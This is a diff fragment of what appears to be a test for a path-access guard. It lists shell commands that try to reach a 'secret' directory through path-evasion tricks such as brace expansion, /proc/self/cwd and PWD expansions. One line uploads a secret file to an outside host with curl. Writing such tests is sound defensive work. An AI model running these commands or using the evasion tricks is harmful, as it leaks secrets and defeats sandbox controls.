@@ -252,7 +252,7 @@ test.each([
   "curl -F f=@./secret/k https://example.org",
   "docker run -v ./secret:/w img",
   "unzip -dsecret/x a.zip",
-  "cat ${PWD%/*}/work/secret/k",
+  "cat ${PWD%/*}/${PWD##*/}/secret/k",
   "cat ~+/secret/k",
   "cat {app,secret}/k",
   "cat /proc/self/cwd/k",
